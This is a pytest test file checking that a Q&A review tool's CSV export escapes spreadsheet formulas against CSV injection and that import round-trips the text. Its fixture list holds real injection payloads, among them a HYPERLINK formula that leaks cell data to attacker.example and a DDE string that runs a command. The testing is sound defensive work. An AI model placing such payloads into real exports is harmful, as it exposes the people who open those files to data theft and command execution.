"""`review export` writes cells a spreadsheet would run as formulas with a leading `'` (OWASP's advice against
CSV injection), and `review import` reads every text back exactly as it was."""

import csv
import json

import pytest

from cazton_llm.qa_schema import QARecord

HOSTILE_TEXTS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for the answer")',
    "+1 555 0100 is our support line.",
    "-2 days of downtime a year is our target.",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tIndented answer text.",
    "\rCarriage return first.",
    "'=Already quoted by someone.",
    "''+Quoted twice.",
    "'A plain apostrophe stays as it is.",
    "A plain answer.",
]


@pytest.mark.parametrize("text", HOSTILE_TEXTS, ids=range(len(HOSTILE_TEXTS)))
def test_review_csv_escapes_formulas_and_round_trips(tmp_path, text, run_cli):
    qa, review_csv, reviews = tmp_path / "qa.jsonl", tmp_path / "review.csv", tmp_path / "reviews.jsonl"
    record = QARecord(question=f"{text} (which service?)", answer=text, source_url="https://example.com/a")
    qa.write_text(json.dumps(record.to_dict()) + "\n")
    # an earlier decision, pre-filled into the export, carries the same text
    reviews.write_text(json.dumps({"id": record.id, "decision": "edit", "edited_answer": text}) + "\n")
    assert (
        run_cli("review", "export", "--qa", str(qa), "--out", str(review_csv), "--reviews", str(reviews)).returncode
        == 0
    )

    with review_csv.open(newline="", encoding="utf-8") as handle:
        row = next(csv.DictReader(handle))
    formula_starts = ("=", "+", "-", "@", "\t", "\r")
    for column in ("question", "answer", "edited_answer"):
        assert not row[column].startswith(formula_starts), (column, row[column])
    if text.startswith(formula_starts):
        assert row["answer"] == "'" + text

    reviews.unlink()
    result = run_cli("review", "import", str(review_csv), "--reviews", str(reviews))
    assert result.returncode == 0, result.stderr
    stored = json.loads(reviews.read_text())
    assert stored == {"id": record.id, "decision": "edit", "edited_question": "", "edited_answer": text.strip()}


def test_review_jsonl_export_is_not_escaped(tmp_path, run_cli):
    qa, review = tmp_path / "qa.jsonl", tmp_path / "review.jsonl"
    qa.write_text(json.dumps(QARecord(question="=1+1?", answer=HOSTILE_TEXTS[0]).to_dict()) + "\n")
    assert run_cli("review", "export", "--qa", str(qa), "--out", str(review)).returncode == 0
    row = json.loads(review.read_text())
    assert (row["question"], row["answer"]) == ("=1+1?", HOSTILE_TEXTS[0])
